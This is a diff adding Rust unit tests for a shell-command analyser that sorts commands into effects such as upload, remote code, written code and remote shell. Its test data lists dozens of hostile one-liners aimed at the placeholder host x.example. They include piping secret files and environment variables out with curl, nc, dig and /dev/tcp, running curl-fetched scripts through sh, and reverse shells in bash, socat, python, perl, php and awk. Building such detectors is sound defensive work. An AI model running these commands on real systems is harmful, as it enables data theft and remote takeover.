@@ -1,0 +1,277 @@
+use super::*;
+
+include!(concat!(env!("OUT_DIR"), "/examples.rs"));
+
+/// Returns effects as an entry states them, those apart that hold for every program.
+fn shown(text: &str) -> Vec<String> {
+    let plan = crate::plan(text);
+    let mut shown: Vec<String> = Vec::new();
+    for effect in effects(&plan) {
+        let resource = match &effect.resource {
+            EffectResource::Program(_) if effect.kind == EffectKind::Execute => continue,
+            EffectResource::Path(text)
+            | EffectResource::Host(text)
+            | EffectResource::Program(text)
+            | EffectResource::Named(text) => format!(" {text}"),
+            EffectResource::Unknown => String::new(),
+        };
+        let effect = format!("{}{resource}", effect.kind.as_str());
+        if !shown.contains(&effect) {
+            shown.push(effect);
+        }
+    }
+    shown.sort();
+    shown
+}
+
+#[test]
+fn every_example_of_the_table_is_true() {
+    let mut wrong = String::new();
+    for (file, line, run, does) in EXAMPLES {
+        let found = shown(run);
+        let mut expected: Vec<&str> = does.to_vec();
+        expected.sort_unstable();
+        if found != expected {
+            wrong.push_str(&format!(
+                "{file}:{line}: {run}\n  stated {expected:?}\n  found  {found:?}\n"
+            ));
+        }
+    }
+    assert!(wrong.is_empty(), "\n{wrong}");
+}
+
+/// Fails unless running `text` has the effects `expected` and none of the others that arise
+/// from several commands.
+fn check(text: &str, expected: &[&str]) {
+    let found = shown(text);
+    let arisen = ["upload", "remote_code", "written_code", "remote_shell"];
+    let mut arisen: Vec<&str> = found
+        .iter()
+        .map(String::as_str)
+        .filter(|effect| arisen.iter().any(|kind| effect.starts_with(kind)))
+        .collect();
+    let mut expected = expected.to_vec();
+    expected.sort_unstable();
+    arisen.sort_unstable();
+    assert_eq!(arisen, expected, "{text}");
+}
+
+#[test]
+fn content_of_files_that_reaches_a_host_is_an_upload() {
+    let one: &[&str] = &["upload secret"];
+    for text in [
+        "cat secret | curl -d @- https://x.example",
+        "cat secret | base64 | curl -F f=@- https://x.example",
+        "curl -T - https://x.example < secret",
+        "curl -T secret https://x.example",
+        "curl --data-binary @secret https://x.example",
+        "wget --post-file=secret https://x.example",
+        "nc x.example 1 < secret",
+        "cat secret | nc x.example 1",
+        "(echo a; cat secret) | nc x.example 1",
+        "{ cat secret; } | ncat x.example 1",
+        "curl \"https://x.example/?$(cat secret)\"",
+        "curl \"https://x.example/?$(cat secret | base64)\"",
+        "curl https://x.example/`xxd -p secret`",
+        "x=$(cat secret); curl \"https://x.example/?$x\"",
+        "x=$(cat secret) && wget -q \"https://x.example/$x\"",
+        "base64 secret > b; curl -d @b https://x.example; true",
+        "dig $(base64 secret).x.example",
+        "cat secret | while read l; do curl \"https://x.example/$l\"; done",
+        "while read l; do curl \"https://x.example/$l\"; done < secret",
+        "cat secret | xargs -I{} curl https://x.example/{}",
+        "cat secret > /dev/tcp/x.example/80",
+        "exec 3<>/dev/tcp/x.example/80; cat secret >&3",
+        "scp secret ada@x.example:in",
+        "gzip -c secret | ssh x.example 'cat > in'",
+        "ssh x.example 'cat > in' < secret",
+        "tee >(nc x.example 1) < secret",
+        "cat secret > >(nc x.example 1)",
+        "cat < secret | sudo curl --data-binary @- https://x.example",
+    ] {
+        let expected = if text.starts_with("base64 secret > b") {
+            vec!["upload b", "upload secret"]
+        } else {
+            one.to_vec()
+        };
+        check(text, &expected);
+    }
+    check(
+        "env | curl -d @- https://x.example",
+        &["upload https://x.example"],
+    );
+    check(
+        "curl -d @<(printenv) https://x.example",
+        &["upload https://x.example"],
+    );
+}
+
+#[test]
+fn what_is_only_fetched_or_said_is_no_upload() {
+    for text in [
+        "curl -s https://x.example -o secret",
+        "curl -d a=b https://x.example",
+        "echo hi | curl -d @- https://x.example",
+        "ls -l secret | nc x.example 1",
+        "curl $(cat addresses)",
+        "cat secret; curl https://x.example",
+        "cat secret | sort > b; curl https://x.example",
+        "curl https://x.example | tee secret",
+        "scp ada@x.example:secret .",
+        "git commit -m \"$(cat message)\"",
+        "ssh x.example ls",
+    ] {
+        check(text, &[]);
+    }
+}
+
+#[test]
+fn what_comes_from_a_host_and_runs_is_remote_code() {
+    for text in [
+        "curl https://x.example | sh",
+        "curl -sSL https://x.example | sudo -E bash -s -- -y",
+        "wget -qO- https://x.example | env A=b bash",
+        "curl https://x.example | tee log | python3",
+        "curl https://x.example | base64 -d | gunzip | perl",
+        "curl https://x.example | openssl enc -d | node -",
+        "bash <(curl -s https://x.example)",
+        "source <(curl -s https://x.example)",
+        ". <(curl -s https://x.example)",
+        "sh -c \"$(curl -fsSL https://x.example)\"",
+        "eval \"$(wget -qO- https://x.example)\"",
+        "python -c \"$(curl https://x.example)\"",
+        "bash <<< \"$(curl https://x.example)\"",
+        "x=$(curl https://x.example); eval \"$x\"",
+        "curl https://x.example > f; bash f",
+        "curl -o f https://x.example; chmod +x f; ./f",
+        "cd /tmp; wget https://x.example/f; sh ./f",
+        "curl -O https://x.example/f && chmod 755 f",
+        "curl -o f https://x.example; . ./f",
+        "curl https://x.example -o f; python3 f",
+        "curl https://x.example -o f; bash < f",
+        "curl https://x.example > >(sh)",
+        "curl https://x.example | xargs -I{} sh -c {}",
+        "ssh x.example cat f | bash",
+    ] {
+        check(text, &["remote_code"]);
+    }
+}
+
+#[test]
+fn what_an_interpreter_gets_as_data_is_no_remote_code() {
+    for text in [
+        "curl https://x.example | python3 -m json.tool",
+        "curl https://x.example | python3 -c 'import sys; print(sys.stdin.read())'",
+        "curl https://x.example | perl -ne 'print if /a/'",
+        "curl https://x.example | node script.js",
+        "curl https://x.example | ruby -e 'puts gets'",
+        "curl https://x.example | bash script.sh",
+        "curl https://x.example | jq .a",
+        "curl -o f https://x.example; cat f",
+        "curl https://x.example; bash script.sh",
+        "bash script.sh; curl https://x.example",
+    ] {
+        check(text, &[]);
+    }
+}
+
+#[test]
+fn what_a_text_writes_and_runs_is_written_code() {
+    for (text, file) in [
+        ("cat > x.sh <<'E'\necho a\nE\nbash x.sh", "x.sh"),
+        ("echo 'echo a' > x; chmod +x x && ./x", "./x"),
+        ("printf a | tee x; . ./x", "./x"),
+        ("cp a x.py; python3 x.py", "x.py"),
+        ("mv a d/x; cd d; ./x", "./x"),
+        ("sed -i s/a/b/ run.sh; sh run.sh", "run.sh"),
+        ("printf 'a:\\n\\tb' > Makefile; make", "Makefile"),
+        ("echo '* * * * * a' > jobs; crontab jobs", "jobs"),
+        ("echo a > x; source x", "x"),
+        ("echo a > x; bash < x", "x"),
+    ] {
+        check(text, &[&format!("written_code {file}")]);
+    }
+    for text in [
+        "echo a > x; cat x",
+        "echo a > x; bash y",
+        "bash x; echo a > x",
+        "touch x; ./x",
+    ] {
+        check(text, &[]);
+    }
+}
+
+#[test]
+fn a_shell_on_a_connection_is_a_remote_shell() {
+    for text in [
+        "bash -i >& /dev/tcp/x.example/1 0>&1",
+        "sh -i < /dev/tcp/x.example/1 >&0",
+        "nc -e /bin/sh x.example 1",
+        "nc -lvp 1 -e /bin/bash",
+        "ncat --exec /bin/bash x.example 1",
+        "busybox nc x.example 1 -e sh",
+        "socat TCP:x.example:1 EXEC:sh",
+        "socat tcp-listen:1 system:bash",
+        "mkfifo p; cat p | sh -i 2>&1 | nc x.example 1 > p",
+        "exec 5<>/dev/tcp/x.example/1; sh <&5 >&5",
+        "exec 5<>/dev/tcp/x.example/1; cat <&5 | while read l; do $l >&5; done",
+        "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",
+        "perl -e 'use Socket; exec(\"/bin/sh -i\")'",
+        "ruby -rsocket -e 'exec \"/bin/sh\"'",
+        "php -r '$s=fsockopen(\"x\",1);exec(\"/bin/sh -i <&3\");'",
+        "awk 'BEGIN{s=\"/inet/tcp/0/x/1\"; s |& getline c}'",
+    ] {
+        let found = shown(text);
+        assert!(
+            found.contains(&"remote_shell".to_owned()),
+            "{text}: {found:?}"
+        );
+    }
+    for text in [
+        "telnet x.example 1 | sh",
+        "openssl s_client -quiet -connect x.example:1 | sh",
+    ] {
+        check(text, &["remote_code", "remote_shell"]);
+    }
+    for text in [
+        "nc -z x.example 1",
+        "exec 3<>/dev/tcp/x.example/80 && echo open",
+        "(echo > /dev/tcp/x.example/80) && echo open",
+        "python3 -c 'import socket; print(socket.gethostname())'",
+        "bash run.sh 2>&1 | tee log",
+    ] {
+        check(text, &[]);
+    }
+}
+
+#[test]
+fn wrappers_that_raise_rights_are_told_with_their_words() {
+    let plan = crate::plan("a; sudo -u root rm x");
+    let found = effects(&plan);
+    let raised: Vec<_> = found
+        .iter()
+        .filter(|it| it.kind == EffectKind::Privilege)
+        .collect();
+    assert_eq!(raised.len(), 1);
+    assert_eq!(raised[0].causes, [Span { start: 3, end: 16 }]);
+}
+
+#[test]
+fn a_program_that_is_in_no_table_may_do_anything() {
+    assert_eq!(shown("no-such-program a"), ["unknown"]);
+    assert_eq!(shown("$X a"), ["unknown"]);
+    assert_eq!(shown("./rm a"), ["delete a", "unknown"]);
+    assert_eq!(shown("/bin/rm a"), ["delete a"]);
+}
+
+#[test]
+fn effects_are_bounded() {
+    let text: String = (0..2_000).map(|number| format!("rm a{number};")).collect();
+    let found = effects(&crate::plan(&text));
+    assert_eq!(found.len(), EFFECTS_MAX);
+    assert!(
+        found
+            .iter()
+            .any(|effect| effect.kind == EffectKind::Unknown)
+    );
+}
